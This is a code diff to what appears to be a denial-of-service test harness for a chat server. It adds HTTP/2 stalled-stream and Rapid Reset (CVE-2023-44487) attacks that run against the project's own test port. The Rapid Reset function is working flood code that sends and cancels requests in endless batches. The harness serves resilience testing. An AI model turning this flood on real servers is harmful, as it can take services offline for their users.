@@ -5,6 +5,7 @@
 import { SUBPROTOCOL } from "../../chat/protocol.ts";
 import { frame, handshake, Opcode } from "../harness.ts";
 import { type Field, pause } from "./field.ts";
+import * as http2 from "./http2.ts";
 import { encode, Peer, reset } from "./peer.ts";
 
 /** Where the good clients talk. */
@@ -61,7 +62,7 @@ export const attacks: readonly Attack[] = [
         const peer = await Peer.connect(field.port);
         await peer.write(half);
         opened();
-        return peer.drain();
+        return peer.discard();
       });
     },
   },
@@ -206,6 +207,30 @@ export const attacks: readonly Attack[] = [
       });
     },
   },
+  {
+    name: "h2-stalled",
+    what: "200 HTTP/2 connections that ask for 100 files and let none out",
+    limit: "RFC 9113 section 10.5",
+    processes: 1,
+    run: (field) => {
+      const streams = Array.from({ length: 100 }, (_, i) => 2 * i + 1);
+      const requests = streams.flatMap((id) => http2.get(id, "/asyncapi.json"));
+      const bytes = Uint8Array.from([...http2.begin(0), ...requests]);
+      return field.hold(field.size(200), async (_, opened) => {
+        const peer = await Peer.connect(field.port);
+        await peer.write(bytes);
+        opened();
+        return peer.discard();
+      });
+    },
+  },
+  {
+    name: "h2-reset",
+    what: "4 HTTP/2 connections that ask and cancel at full speed",
+    limit: "RFC 9113 section 10.5; CVE-2023-44487",
+    processes: 1,
+    run: rapidReset,
+  },
 ];
 
 /** The attack of that name; undefined if there is none. */
@@ -239,7 +264,7 @@ async function slowHeaders(field: Field): Promise<void> {
     const peer = await Peer.connect(field.port);
     await peer.write(begin);
     opened();
-    return drip(peer, byte);
+    return drip(peer, byte, peer.discard());
   });
 }
 
@@ -249,7 +274,7 @@ async function bigFrameSlow(field: Field): Promise<void> {
     const peer = await Peer.upgrade(field.port, BUSY);
     await peer.write(bigHead());
     opened();
-    return drip(peer, bytes);
+    return drip(peer, bytes, peer.drain());
   });
 }
 
@@ -257,10 +282,14 @@ function forever(): Promise<never> {
   return new Promise(() => {});
 }
 
-/** Writes the bytes once a second, until the connection ends. */
-async function drip(peer: Peer, bytes: Uint8Array): Promise<number | void> {
+/** Writes the bytes once a second, until the connection has ended. */
+async function drip(
+  peer: Peer,
+  bytes: Uint8Array,
+  ended: Promise<number | void>,
+): Promise<number | void> {
   const timer = setInterval(() => peer.write(bytes), 1_000);
-  const code = await peer.drain();
+  const code = await ended;
   clearInterval(timer);
   return code;
 }
@@ -385,5 +414,28 @@ async function flood(
     opened();
     const written = write(peer);
     return isDeaf ? written : peer.drain();
+  });
+}
+
+const STREAMS_AT_ONCE = 500;
+
+async function rapidReset(field: Field): Promise<void> {
+  const write = async (peer: Peer) => {
+    await peer.write(http2.begin(65_535));
+    for (let first = 1;; first += 2 * STREAMS_AT_ONCE) {
+      const bytes: number[] = [];
+      for (let i = 0; i < STREAMS_AT_ONCE; i++) {
+        const id = first + 2 * i;
+        bytes.push(...http2.get(id, "/asyncapi.json"), ...http2.reset(id));
+      }
+      if (!await peer.write(Uint8Array.from(bytes))) return;
+      field.count("requests", STREAMS_AT_ONCE);
+    }
+  };
+  await field.hold(field.size(4), async (_, opened) => {
+    const peer = await Peer.connect(field.port);
+    opened();
+    write(peer);
+    return peer.discard();
   });
 }
